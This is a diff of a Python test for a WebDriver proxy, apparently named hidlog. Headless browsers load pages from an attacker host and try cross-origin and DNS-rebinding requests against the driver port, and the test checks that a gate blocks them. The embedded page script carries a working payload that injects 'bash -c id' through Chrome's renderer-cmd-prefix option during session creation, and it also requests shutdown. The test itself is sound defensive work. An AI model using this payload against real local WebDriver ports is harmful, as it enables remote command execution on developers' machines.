@@ -1,9 +1,10 @@
 #!/usr/bin/python3
-"""A page of another origin, in real browsers, sends what it can to the port of `hidlog webdriver`, and so does a page
-whose name is led to that port (DNS rebinding). Nothing comes through to the driver. The same page is shown a driver
-without the gate first, which it reaches.
+"""Requests from web pages to `hidlog webdriver`, in real browsers: none must reach the driver.
 
-    tests/webdriver/browsers.py        runs what is there of chromium and firefox-esr
+A page of another origin sends all that a page can send to the proxy's port, and so does a page whose host name is
+changed to that port's address (DNS rebinding). As a control, the same requests must reach a driver without the gate.
+
+    tests/webdriver/browsers.py        runs those of chromium and firefox-esr that are installed
 """
 
 from __future__ import annotations
@@ -30,12 +31,12 @@ from hidlog.webdriver.errors import DriverError
 from hidlog.webdriver.gate import admit
 from hidlog.webdriver.proxy import Proxy
 from hidlog.webdriver.server import Server
-from sockets import Notes
+from sockets import RecordingDriver
 
-NAME = "evil.example"
-SECONDS = 600
+ATTACKER_HOST = "evil.example"
+TIMEOUT_SECONDS = 600
 PREFERENCES = {
-    "network.dns.localDomains": NAME,
+    "network.dns.localDomains": ATTACKER_HOST,
     "browser.shell.checkDefaultBrowser": False,
     "datareporting.policy.dataSubmissionEnabled": False,
     "app.update.disabledForTesting": True,
@@ -43,8 +44,8 @@ PREFERENCES = {
     "network.captive-portal-service.enabled": False,
     "network.connectivity-service.enabled": False,
 }
-# What a page of another origin can send without being asked.
-CROSSING = """<!doctype html><meta charset="utf-8"><title>A page</title><body><script>
+# Requests that a page of another origin can send without a preflight.
+CROSS_ORIGIN_PAGE = """<!doctype html><meta charset="utf-8"><title>A page</title><body><script>
 const body = JSON.stringify({ capabilities: { alwaysMatch: { "goog:chromeOptions": {
     args: ["--renderer-cmd-prefix=bash -c id>PWNED"] } } } });
 const quiet = (promise) => Promise.resolve(promise).catch(() => {});
@@ -91,13 +92,13 @@ const attack = async (base) => {
     await fetch("/report", { method: "POST", body: "{}" });
 })();
 </script>"""
-# A page whose own name is led to the port: what it sends is of its own origin.
-REBOUND = """<!doctype html><meta charset="utf-8"><title>A page</title><script>
+# A page whose own name is rebound to the port: its requests are same-origin.
+REBINDING_PAGE = """<!doctype html><meta charset="utf-8"><title>A page</title><script>
 (async () => {
     await fetch(`${CONTROL}/turn`, { mode: "no-cors" });
     // A connection that was open before may still be the attacker's.
     for (let status = 204; status === 204;) {
-        status = await fetch("/ready").then((it) => it.status, () => 204);
+        status = await fetch("/ready").then((response) => response.status, () => 204);
     }
     const saw = [];
     const json = { "Content-Type": "application/json" };
@@ -117,8 +118,8 @@ REBOUND = """<!doctype html><meta charset="utf-8"><title>A page</title><script>
 </script>"""
 
 
-class Evil(BaseHTTPRequestHandler):
-    """The attacker's server: its page, and what the page reports."""
+class AttackerHandler(BaseHTTPRequestHandler):
+    """The attacker's server: serves its page, and collects the page's reports."""
 
     page: str
     turned: threading.Event
@@ -129,15 +130,15 @@ class Evil(BaseHTTPRequestHandler):
     def do_GET(self) -> None:
         if self.path == "/turn":
             self.turned.set()
-            self.may_go.wait(SECONDS)
-        self.answer(self.page.encode() if self.path == "/" else b"", 200 if self.path in ("/", "/turn") else 204)
+            self.may_go.wait(TIMEOUT_SECONDS)
+        self.respond(self.page.encode() if self.path == "/" else b"", 200 if self.path in ("/", "/turn") else 204)
 
     def do_POST(self) -> None:
         type(self).report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
-        self.answer(b"")
+        self.respond(b"")
         self.reported.set()
 
-    def answer(self, data: bytes, status: int = 200) -> None:
+    def respond(self, data: bytes, status: int = 200) -> None:
         self.send_response(status)
         self.send_header("Content-Type", "text/html; charset=utf-8")
         self.send_header("Content-Length", str(len(data)))
@@ -145,17 +146,17 @@ class Evil(BaseHTTPRequestHandler):
         self.wfile.write(data)
 
     def log_message(self, *_: Any) -> None:
-        """Says nothing of each request."""
+        """Does not log requests."""
 
 
-def evil(page: str) -> Any:
+def make_attacker_handler(page: str) -> Any:
     events = {name: threading.Event() for name in ("turned", "may_go", "reported")}
     members: dict[str, Any] = {"page": page, "report": None, **events}
-    return type("EvilPage", (Evil,), members)
+    return type("EvilPage", (AttackerHandler,), members)
 
 
 @contextmanager
-def serving(handler: Any, port: int = 0) -> Iterator[int]:
+def serve_in_thread(handler: Any, port: int = 0) -> Iterator[int]:
     server = ThreadingHTTPServer(("127.0.0.1", port), handler)
     server.daemon_threads = True
     server.handle_error = lambda *_: None  # type: ignore[assignment]
@@ -167,30 +168,30 @@ def serving(handler: Any, port: int = 0) -> Iterator[int]:
         server.server_close()
 
 
-class Victim:
-    """What listens at the port, and what the driver behind it is asked. Without the gate, all comes through."""
+class VictimServer:
+    """A server at the port, with or without the gate, and the requests to the driver behind it."""
 
     def __init__(self, has_gate: bool):
-        self.handler: Any = type("Noted", (Notes,), {"asked": [], "connections": []})
+        self.handler: Any = type("Noted", (RecordingDriver,), {"asked": [], "connections": []})
         self.has_gate = has_gate
         self.refused: list[str] = []
 
     @property
-    def asked(self) -> list[tuple[str, str]]:
+    def requests(self) -> list[tuple[str, str]]:
         return [(method, path) for method, path, _ in self.handler.asked]
 
     @contextmanager
-    def at(self, port: int = 0) -> Iterator[int]:
+    def listen(self, port: int = 0) -> Iterator[int]:
         """Listens."""
-        with serving(self.handler, 0 if self.has_gate else port) as driver:
+        with serve_in_thread(self.handler, 0 if self.has_gate else port) as driver:
             if not self.has_gate:
                 yield driver
                 return
-            with self.gated(driver, port) as own:
+            with self.open_with_gate(driver, port) as own:
                 yield own
 
     @contextmanager
-    def gated(self, driver: int, port: int) -> Iterator[int]:
+    def open_with_gate(self, driver: int, port: int) -> Iterator[int]:
         def noted(*given: Any) -> int:
             try:
                 return int(admit(*given))
@@ -212,16 +213,16 @@ class Victim:
 
 
 @contextmanager
-def browser(name: str, url: str) -> Iterator[None]:
+def open_browser(name: str, url: str) -> Iterator[None]:
     """Opens an address."""
-    with TemporaryDirectory(ignore_cleanup_errors=True) as room:
+    with TemporaryDirectory(ignore_cleanup_errors=True) as work_dir:
         if name == "chromium":
             words = ["chromium", "--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--no-first-run"]
-            words += [f"--user-data-dir={room}", f"--host-resolver-rules=MAP {NAME} 127.0.0.1", url]
+            words += [f"--user-data-dir={work_dir}", f"--host-resolver-rules=MAP {ATTACKER_HOST} 127.0.0.1", url]
         else:
             lines = [f"user_pref({json.dumps(key)}, {json.dumps(value)});" for key, value in PREFERENCES.items()]
-            Path(room, "user.js").write_text("\n".join(lines))
-            words = ["firefox-esr", "--headless", "--no-remote", "--profile", room, url]
+            Path(work_dir, "user.js").write_text("\n".join(lines))
+            words = ["firefox-esr", "--headless", "--no-remote", "--profile", work_dir, url]
         started = subprocess.Popen(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
         try:
             yield
@@ -230,44 +231,52 @@ def browser(name: str, url: str) -> Iterator[None]:
             started.wait()
 
 
-def crossing(name: str, has_gate: bool) -> Victim:
-    """Shows a browser a page of another origin, and returns what was at the port."""
-    victim = Victim(has_gate)
-    with victim.at() as port:
-        handler = evil(CROSSING.replace("BASES", json.dumps([f"http://{host}:{port}" for host in ("127.0.0.1", NAME)])))
-        with serving(handler) as own, browser(name, f"http://{NAME}:{own}/"):
-            assert handler.reported.wait(SECONDS), "the page doesn't end"
+def test_cross_origin(name: str, has_gate: bool) -> VictimServer:
+    """Opens a page of another origin in a browser, and returns the requests at the port."""
+    victim = VictimServer(has_gate)
+    with victim.listen() as port:
+        handler = make_attacker_handler(
+            CROSS_ORIGIN_PAGE.replace(
+                "BASES", json.dumps([f"http://{host}:{port}" for host in ("127.0.0.1", ATTACKER_HOST)])
+            )
+        )
+        with serve_in_thread(handler) as own, open_browser(name, f"http://{ATTACKER_HOST}:{own}/"):
+            assert handler.reported.wait(TIMEOUT_SECONDS), "the page doesn't end"
     return victim
 
 
-def rebound(name: str, has_gate: bool) -> tuple[Victim, Any]:
-    """Shows a browser a page whose own origin then is the port, and returns what was there and what the page saw."""
-    victim, control = Victim(has_gate), evil("")
-    with serving(control) as at, ExitStack() as until_turn:
-        page = evil(REBOUND.replace("${CONTROL}", f"http://127.0.0.1:{at}"))
-        port = until_turn.enter_context(serving(page))
-        with browser(name, f"http://{NAME}:{port}/"):
-            assert control.turned.wait(SECONDS), "the page doesn't begin"
+def test_dns_rebinding(name: str, has_gate: bool) -> tuple[VictimServer, Any]:
+    """Opens a page whose origin is then rebound to the port, and returns the requests there and the page's results."""
+    victim, control = VictimServer(has_gate), make_attacker_handler("")
+    with serve_in_thread(control) as at, ExitStack() as until_turn:
+        page = make_attacker_handler(REBINDING_PAGE.replace("${CONTROL}", f"http://127.0.0.1:{at}"))
+        port = until_turn.enter_context(serve_in_thread(page))
+        with open_browser(name, f"http://{ATTACKER_HOST}:{port}/"):
+            assert control.turned.wait(TIMEOUT_SECONDS), "the page doesn't begin"
             until_turn.close()
-            with victim.at(port):
+            with victim.listen(port):
                 control.may_go.set()
-                assert control.reported.wait(SECONDS), "the page doesn't end"
+                assert control.reported.wait(TIMEOUT_SECONDS), "the page doesn't end"
     return victim, control.report
 
 
-def check(name: str) -> None:
+def check_browser(name: str) -> None:
     """Runs the pages of a browser, first without the gate."""
-    bare = crossing(name, has_gate=False)
-    assert bare.asked.count(("POST", "/session")) >= 8, bare.asked
-    assert ("GET", "/shutdown") in bare.asked, bare.asked
-    gated = crossing(name, has_gate=True)
-    assert gated.asked == [] and len(gated.refused) >= 10, (gated.asked, gated.refused)
-    print(f"ok  {name}: a page of another origin: {len(bare.asked)} requests reach a driver, and none through the gate")
-    bare, saw = rebound(name, has_gate=False)
-    assert ("POST", "/session") in bare.asked and saw[0] == 200, (bare.asked, saw)
-    gated, saw = rebound(name, has_gate=True)
-    assert gated.asked == [] and set(saw) == {403}, (gated.asked, saw)
-    print(f"ok  {name}: a name that is led to the port: {len(bare.asked)} requests reach a driver, and none the gate's")
+    bare = test_cross_origin(name, has_gate=False)
+    assert bare.requests.count(("POST", "/session")) >= 8, bare.requests
+    assert ("GET", "/shutdown") in bare.requests, bare.requests
+    gated = test_cross_origin(name, has_gate=True)
+    assert gated.requests == [] and len(gated.refused) >= 10, (gated.requests, gated.refused)
+    print(
+        f"ok  {name}: a page of another origin: {len(bare.requests)} requests reach a driver, and none through the gate"
+    )
+    bare, saw = test_dns_rebinding(name, has_gate=False)
+    assert ("POST", "/session") in bare.requests and saw[0] == 200, (bare.requests, saw)
+    gated, saw = test_dns_rebinding(name, has_gate=True)
+    assert gated.requests == [] and set(saw) == {403}, (gated.requests, saw)
+    print(
+        f"ok  {name}: a name that is led to the port: {len(bare.requests)} requests reach a driver, and none the gate's"
+    )
 
 
 def main() -> int:
@@ -275,7 +284,7 @@ def main() -> int:
     names = [name for name in ("chromium", "firefox-esr") if shutil.which(name)]
     for name in names:
         try:
-            check(name)
+            check_browser(name)
         except (AssertionError, OSError) as error:
             print(f"FAILED  {name}: {error!r}"[:3000])
             status = 1
